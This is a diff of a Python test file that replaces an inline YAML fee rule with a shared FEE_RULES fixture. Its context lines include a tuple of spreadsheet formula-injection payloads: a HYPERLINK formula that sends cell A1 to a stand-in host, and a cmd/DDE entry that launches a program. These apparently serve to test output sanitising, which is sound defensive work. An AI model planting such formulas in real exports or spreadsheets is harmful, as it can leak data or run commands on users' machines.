@@ -23,7 +23,7 @@ from streams.replay.results import neutral
 from streams.wire.decoder import Decoder
 from streams.wire.plain_events import PlainEvents
 from tests.notify.alerts import alert
-from tests.stories import decoded, judge, shipped, us
+from tests.stories import FEE_RULES, decoded, judge, shipped, us
 
 FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "＝1+1")
 PLANTED = "某人 13000000000"
@@ -40,28 +40,11 @@ def written(path: Path, *events: dict[str, Any]) -> str:
     return str(path)
 
 
-RULE = """
-chapter: W
-title: {zh: 收费, en: Fees}
-rules:
-  - id: fee
-    effective_from: 2023-08-23
-    clauses: [W-S5]
-    source: a test
-    kind: deadline
-    subject: order
-    title: {zh: 收费, en: Fee}
-    start: counter.service_started
-    stop: counter.service_completed
-    limit: LIMIT
-"""
-
-
 def rulebooks(folder: Path) -> list[str]:
     """The options that compare five minutes with ten days."""
     for name, limit in (("now", "5 min"), ("then", "240 h")):
         (folder / name).mkdir()
-        (folder / name / "rule.yaml").write_text(RULE.replace("LIMIT", limit), "utf-8")
+        (folder / name / "rule.yaml").write_text(FEE_RULES.replace("LIMIT", limit), "utf-8")
     return ["--only", str(folder / "now"), "--compare-only", str(folder / "then")]
 
 
